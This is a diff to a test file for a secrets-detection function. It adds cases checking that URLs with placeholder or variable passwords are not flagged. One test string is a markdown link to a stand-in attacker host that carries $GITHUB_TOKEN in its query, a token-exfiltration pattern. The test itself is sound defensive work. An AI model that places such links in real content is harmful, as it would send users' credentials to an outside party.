@@ -91,6 +91,20 @@ def test_secrets_detect_secrets_has_no_pattern_for_are_found(text: str) -> None:
     assert 1 == len(find_secrets(text))
 
 
+@pytest.mark.parametrize(
+    "text",
+    [
+        "[open the docs](https://attacker.example/login?next=p12&token=$GITHUB_TOKEN)",
+        "curl https://api.example.com/v1?api_key=${API_KEY}",
+        "redis://:<password>@cache:6379 and https://x.example/?token={{token}}",
+        "postgresql://app:$DB_PASSWORD@db/prod",
+    ],
+)
+def test_a_placeholder_for_a_password_passes(text: str) -> None:
+    """A password in a URL that names a variable or a placeholder is not a secret."""
+    assert [] == find_secrets(text)
+
+
 def test_high_entropy_threshold_is_the_documented_one() -> None:
     """A base64 run with a digit and a letter is a secret above 4.5 bits per character;
     below it, or shorter than 20 characters, it passes."""
